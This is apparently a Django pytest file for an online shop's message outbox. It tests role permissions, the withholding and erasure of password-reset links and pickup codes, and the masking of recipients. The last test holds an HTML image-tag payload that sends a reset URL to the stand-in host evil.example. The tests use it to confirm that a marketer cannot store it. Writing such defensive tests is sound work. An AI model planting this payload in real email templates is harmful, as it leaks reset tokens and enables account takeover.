"""Who sees what of the outbox (README "Roles and permissions"), and R46: secrets stay with
the customer they were meant for.

The takeover these tests reproduce: an anonymous visitor asks for a password reset of the
admin's address, then any member of staff opened the newest outbox message and followed
the reset link.
"""

import re

import pytest
from django.contrib.auth import get_user_model
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from oscar.core.loading import get_class, get_model

from shop.communication.models import OutboxMessage
from shop.communication.outbox import Draft, message_deliver, message_retry, messages_record
from stores.messages import READY_EVENT_CODE
from stores.services import pickup_mark_ready
from tests.shop.communication.roles import ROLES, user_for
from tests.stores.factories import pickup_order, store

Dispatcher = get_class("communication.utils", "Dispatcher")
CommunicationEventType = get_model("communication", "CommunicationEventType")
Email = get_model("communication", "Email")
User = get_user_model()

pytestmark = pytest.mark.django_db

ADMIN_EMAIL = "admin@solomo.example"
RESET_LINK = re.compile(r"https?://\S+/password-reset/confirm/\S+/")


def client_for(user) -> Client:
    client = Client()
    if user is not None:
        client.force_login(user)
    return client


@pytest.fixture
def stores_ab():
    return {"A": store("Centre"), "B": store("Gare")}


@pytest.fixture
def role_client(stores_ab):
    def make(role: str) -> Client:
        return client_for(user_for(role, stores=stores_ab))

    return make


def reset_requested_for_admin() -> tuple[OutboxMessage, str]:
    """An anonymous visitor asks for a reset of the admin's password; returns the outbox
    message and the reset link it carries."""
    User.objects.create_superuser(ADMIN_EMAIL, ADMIN_EMAIL, "solomo-admin")
    response = Client().post(reverse("password-reset"), {"email": ADMIN_EMAIL})
    assert response.status_code == 302
    message = OutboxMessage.objects.get(event_code="PASSWORD_RESET")
    link = RESET_LINK.search(message.body).group(0)
    return message, link


# --- The takeover -------------------------------------------------------------------------


def test_r46_a_marketer_cannot_read_the_admins_password_reset_link(role_client):
    # Given an anonymous reset request for the admin's address, still waiting to be sent
    message, link = reset_requested_for_admin()
    assert message.recipient == ADMIN_EMAIL
    assert message.has_secret is True

    # When a marketer opens the outbox, the list or the message
    marketer = role_client("marketer")
    listing = marketer.get(reverse("communication:dashboard-list"))
    detail = marketer.get(reverse("communication:dashboard-detail", args=[message.pk]))

    # Then both are refused, and the link is nowhere in what they got
    assert (listing.status_code, detail.status_code) == (403, 403)
    assert link not in listing.content.decode() + detail.content.decode()


@pytest.mark.parametrize("role", ["support", "superuser"])
def test_r46_staff_who_may_read_the_outbox_see_the_message_without_its_link(role_client, role):
    message, link = reset_requested_for_admin()
    path = link.split("://", 1)[1].split("/", 1)[1]  # the link without scheme and host
    staff = role_client(role)

    listing = staff.get(reverse("communication:dashboard-list"))
    detail = staff.get(reverse("communication:dashboard-detail", args=[message.pk]))

    assert (listing.status_code, detail.status_code) == (200, 200)
    html = listing.content.decode() + detail.content.decode()
    assert "PASSWORD_RESET" in html
    assert "Content withheld: contains a secret meant for the customer" in detail.content.decode()
    assert path not in html
    assert "password-reset/confirm" not in html


def test_r46_the_reset_link_appears_in_no_staff_response_of_any_role(role_client):
    message, link = reset_requested_for_admin()
    token = link.rstrip("/").rsplit("/", 1)[1]
    urls = [
        reverse("communication:dashboard-list"),
        reverse("communication:dashboard-list") + "?event_code=PASSWORD_RESET",
        reverse("communication:dashboard-detail", args=[message.pk]),
        reverse("communication:dashboard-store"),
        reverse("communication:dashboard-template-list"),
    ]
    for role in ROLES:
        client = role_client(role)
        for url in urls:
            body = client.get(url).content.decode()
            assert token not in body, (role, url)


# --- Every role against every page, with the exact status ---------------------------------

LIST_AND_DETAIL = {
    "superuser": 200,
    "catalogue manager": 403,
    "marketer": 403,
    "support": 200,
    "store A staff": 403,
    "store B staff": 403,
    "shopper": 403,
    "anonymous": 302,
}
RETRY = {**LIST_AND_DETAIL, "superuser": 302, "support": 302}
TEMPLATES = {**LIST_AND_DETAIL, "support": 403, "marketer": 200}
STORE_MESSAGES = {
    "superuser": 200,
    "catalogue manager": 404,
    "marketer": 404,
    "support": 200,
    "store A staff": 200,
    "store B staff": 200,
    "shopper": 404,
    "anonymous": 302,
}


def dead_letter(**fields) -> OutboxMessage:
    (message,) = messages_record(
        drafts=[Draft(channel="sms", recipient="+33612345678", body="Your order is on its way")],
        event_code="ORDER_SHIPPED",
        **fields,
    )
    OutboxMessage.objects.filter(pk=message.pk).update(
        status="failed", attempts=message.max_attempts, last_error="gave up"
    )
    return message


@pytest.mark.parametrize("role", ROLES)
def test_outbox_pages_answer_each_role_with_the_exact_status(role_client, role):
    message = dead_letter()
    CommunicationEventType.objects.create(code="ORDER_SHIPPED", name="Order shipped")
    client = role_client(role)
    login = reverse("customer:login")

    answers = {
        "list": client.get(reverse("communication:dashboard-list")),
        "detail": client.get(reverse("communication:dashboard-detail", args=[message.pk])),
        "retry": client.post(reverse("communication:dashboard-retry", args=[message.pk])),
        "templates": client.get(
            reverse("communication:dashboard-templates", args=["ORDER_SHIPPED"])
        ),
        "template list": client.get(reverse("communication:dashboard-template-list")),
        "store messages": client.get(reverse("communication:dashboard-store")),
    }

    assert {page: answer.status_code for page, answer in answers.items()} == {
        "list": LIST_AND_DETAIL[role],
        "detail": LIST_AND_DETAIL[role],
        "retry": RETRY[role],
        "templates": TEMPLATES[role],
        "template list": TEMPLATES[role],
        "store messages": STORE_MESSAGES[role],
    }
    if role == "anonymous":
        assert all(answer["Location"].startswith(login) for answer in answers.values())
    message.refresh_from_db()
    assert message.status == ("pending" if RETRY[role] == 302 and role != "anonymous" else "failed")


@pytest.mark.parametrize("role", ["catalogue manager", "marketer", "support", "shopper"])
def test_templates_cannot_be_changed_without_the_permission(role_client, role):
    event_type = CommunicationEventType.objects.create(code="ORDER_SHIPPED", name="Shipped")
    url = reverse("communication:dashboard-templates", args=["ORDER_SHIPPED"])

    response = role_client(role).post(url, {"main-sms_template": "Hacked {{ order.number }}"})

    event_type.refresh_from_db()
    if role == "marketer":
        assert response.status_code == 302
        assert event_type.sms_template == "Hacked {{ order.number }}"
    else:
        assert response.status_code == 403
        assert event_type.sms_template is None


# --- Secret messages ------------------------------------------------------------------------


def test_r46_the_secret_flag_is_copied_when_written_and_never_follows_later_changes():
    # Given an event type that is not secret, and one message written for it
    event_type = CommunicationEventType.objects.create(code="WELCOME_GIFT", name="Gift")
    before = messages_record(
        drafts=[Draft(channel="email", recipient="a@example.com", subject="S", body="code 1")],
        event_code="WELCOME_GIFT",
        has_secret=False,
    )[0]
    # When staff mark the event type secret, and another message is dispatched
    event_type.carries_secret = True
    event_type.save()
    customer = User.objects.create_user("b@example.com", "b@example.com", "pw")
    after = Dispatcher().dispatch_user_messages(
        customer, {"subject": "S", "body": "code 2", "html": "", "event_code": "WELCOME_GIFT"}
    )["email"]

    # Then only the new message is secret; unmarking it later does not reveal it
    assert (before.has_secret, after.has_secret) == (False, True)
    event_type.carries_secret = False
    event_type.save()
    after.refresh_from_db()
    assert after.has_secret is True


@pytest.mark.parametrize(
    "code",
    [
        "PASSWORD_RESET",
        "PASSWORD_CHANGED",
        "EMAIL_CHANGED",
        "EMAIL_CHANGE_CONFIRM",
        "PICKUP_READY",
        "PICKUP_REMINDER",
    ],
)
def test_r46_known_secret_event_types_are_marked_when_created(code):
    # (The e-mail change types are created by a migration: as a shop would first see them.)
    CommunicationEventType.objects.filter(code=code).delete()
    event_type = CommunicationEventType.objects.create(code=code, name=code)
    assert event_type.carries_secret is True
    assert CommunicationEventType.objects.create(code="ORDER_PLACED").carries_secret is False


def test_r46_a_pickup_code_in_an_edited_template_makes_the_message_secret(customer):
    # Given an order confirmation template edited to print the pickup code
    centre = store("Centre")
    pickup = pickup_order(centre, user=customer)
    CommunicationEventType.objects.create(
        code="ORDER_PLACED",
        name="Order placed",
        email_subject_template="Order {{ order.number }}",
        email_body_template="Code: {{ order.pickup.code }}",
    )
    # When the order's confirmation is dispatched
    dispatcher = Dispatcher()
    messages = dispatcher.get_messages("ORDER_PLACED", {"order": pickup.order})
    dispatched = dispatcher.dispatch_user_messages(customer, messages)

    # Then the message is secret and knows its order
    assert dispatched["email"].has_secret is True
    assert dispatched["email"].order_number == str(pickup.order.number)


def test_r46_a_secret_message_is_erased_once_sent_and_leaves_no_email_copy(mailoutbox):
    # Given a password reset and an ordinary message to a registered customer
    message, link = reset_requested_for_admin()
    customer = User.objects.get(email=ADMIN_EMAIL)
    plain = messages_record(
        drafts=[
            Draft(
                channel="email",
                recipient=ADMIN_EMAIL,
                subject="Your order",
                body="Thanks",
                user_id=customer.pk,
            )
        ],
        event_code="ORDER_PLACED",
    )[0]

    # When both are delivered
    assert message_deliver(message_id=message.pk) == "sent"
    assert message_deliver(message_id=plain.pk) == "sent"

    # Then the customer got the link, and the outbox no longer has it
    assert link in mailoutbox[0].body
    message.refresh_from_db()
    assert (message.status, message.subject, message.body, message.html) == ("sent", "", "", "")
    plain.refresh_from_db()
    assert plain.body == "Thanks"
    # and Oscar's email history keeps only the ordinary message
    assert list(Email.objects.values_list("subject", "body_text")) == [("Your order", "Thanks")]


def test_r46_a_failed_secret_message_is_erased_and_never_retried(role_client, settings):
    # Given a reset whose every delivery failed (the SMTP server refused it for good)
    settings.EMAIL_BACKEND = "tests.shop.communication.test_dashboard_access.RefusingBackend"
    message, _link = reset_requested_for_admin()
    assert message_deliver(message_id=message.pk) == "failed"
    message.refresh_from_db()
    assert (message.status, message.body) == ("failed", "")

    # When support tries to retry it
    support = role_client("support")
    response = support.post(
        reverse("communication:dashboard-retry", args=[message.pk]), follow=True
    )

    # Then it is refused with what to do instead
    assert response.status_code == 200
    assert "ask the customer to request a new one" in response.content.decode()
    message.refresh_from_db()
    assert message.status == "failed"
    assert message_retry(message_id=message.pk) is False
    assert message.can_retry is False


class RefusingBackend:
    """An email backend whose server refuses every recipient for good (SMTP 550)."""

    def __init__(self, *args, **kwargs):
        pass

    def send_messages(self, messages):
        import smtplib

        raise smtplib.SMTPRecipientsRefused({"x": (550, b"no such user")})


# --- Masked recipients ------------------------------------------------------------------------


def test_recipients_are_masked_for_staff_but_not_for_superusers(role_client):
    messages_record(
        drafts=[Draft(channel="email", recipient="claire@example.com", subject="S", body="B")]
    )
    messages_record(drafts=[Draft(channel="sms", recipient="+33612345678", body="B")])
    url = reverse("communication:dashboard-list")

    support = role_client("support").get(url).content.decode()
    superuser = role_client("superuser").get(url).content.decode()

    assert "c•••@example.com" in support
    assert "+33 6 •• •• •• 78" in support
    assert "claire@example.com" not in support
    assert "+33612345678" not in support
    assert "claire@example.com" in superuser
    assert "+33612345678" in superuser


# --- Store staff: their store's pickup messages, redacted ------------------------------------


def test_store_staff_see_only_their_own_stores_pickup_messages_without_content(
    stores_ab, customer, django_capture_on_commit_callbacks
):
    # Given a ready message for a pickup at each store
    staff_a = user_for("store A staff", stores=stores_ab)
    staff_b = user_for("store B staff", stores=stores_ab)
    pickup_a = pickup_order(stores_ab["A"], user=customer)
    pickup_b = pickup_order(stores_ab["B"], user=customer)
    for pickup in (pickup_a, pickup_b):
        with django_capture_on_commit_callbacks(execute=True):
            pickup_mark_ready(pickup=pickup, now=timezone.now())
    by_order = {
        message.order_number: message
        for message in OutboxMessage.objects.filter(event_code=READY_EVENT_CODE)
    }
    assert set(by_order) == {pickup_a.order.number, pickup_b.order.number}

    # When each store's staff open their pickup messages
    page_a = client_for(staff_a).get(reverse("communication:dashboard-store"))
    page_b = client_for(staff_b).get(reverse("communication:dashboard-store"))

    # Then each sees their own store's message only, masked, without its code
    assert [m.order_number for m in page_a.context["outbox_messages"]] == [pickup_a.order.number]
    assert [m.order_number for m in page_b.context["outbox_messages"]] == [pickup_b.order.number]
    html_a = page_a.content.decode()
    assert "l•••@example.com" in html_a
    assert "lea@example.com" not in html_a
    assert pickup_a.code not in html_a
    assert pickup_b.order.number not in html_a
    # and the outbox itself stays closed to them
    assert client_for(staff_a).get(reverse("communication:dashboard-list")).status_code == 403
    assert (
        client_for(staff_a)
        .get(reverse("communication:dashboard-detail", args=[by_order[pickup_b.order.number].pk]))
        .status_code
        == 403
    )


def test_r46_the_data_migration_marks_existing_secrets_and_erases_their_sent_bodies():
    import importlib

    from django.apps import apps

    migration = importlib.import_module(
        "shop.communication.migrations.0007_mark_secret_event_types"
    )
    # Given rows as they were before the migration: nothing marked
    CommunicationEventType.objects.all().delete()
    CommunicationEventType.objects.create(code="PICKUP_READY", name="Ready")
    CommunicationEventType.objects.create(code="ORDER_PLACED", name="Placed")
    CommunicationEventType.objects.update(carries_secret=False)
    sent_reset, pending_pickup, order = (
        messages_record(
            drafts=[Draft(channel="email", recipient="a@example.com", subject="S", body=body)],
            event_code=code,
        )[0]
        for code, body in (
            ("PASSWORD_RESET", "http://x/password-reset/confirm/MQ/t0k3n/"),
            ("PICKUP_READY", "Code 123456"),
            ("ORDER_PLACED", "Thanks"),
        )
    )
    OutboxMessage.objects.filter(pk=sent_reset.pk).update(status="sent", sent_at=timezone.now())

    # When the data migration runs
    migration.mark_secrets(apps, None)

    # Then the known codes are marked, their messages secret, the sent one erased
    assert dict(CommunicationEventType.objects.values_list("code", "carries_secret")) == {
        "PICKUP_READY": True,
        "ORDER_PLACED": False,
    }
    rows = {row.pk: row for row in OutboxMessage.objects.all()}
    assert (rows[sent_reset.pk].has_secret, rows[sent_reset.pk].body) == (True, "")
    assert (rows[pending_pickup.pk].has_secret, rows[pending_pickup.pk].body) == (
        True,
        "Code 123456",
    )
    assert (rows[order.pk].has_secret, rows[order.pk].body) == (False, "Thanks")


@pytest.mark.parametrize(("role", "status"), [("marketer", 403), ("superuser", 200)])
def test_r46_templates_of_secret_messages_are_for_superusers_only(role_client, role, status):
    # A reset email's HTML could carry the link to a server of the editor's (an image the
    # admin's mail client loads): its templates are not a marketer's to change.
    event_type = CommunicationEventType.objects.create(code="PASSWORD_RESET", name="Reset")
    url = reverse("communication:dashboard-templates", args=["PASSWORD_RESET"])
    exfiltrate = '<img src="https://evil.example/?l={{ reset_url }}">'
    client = role_client(role)

    assert client.get(url).status_code == status
    response = client.post(url, {"fr-email_body_html_template": exfiltrate})

    assert response.status_code == (403 if role == "marketer" else 302)
    stored = event_type.translations.filter(email_body_html_template=exfiltrate).exists()
    assert stored is (role == "superuser")
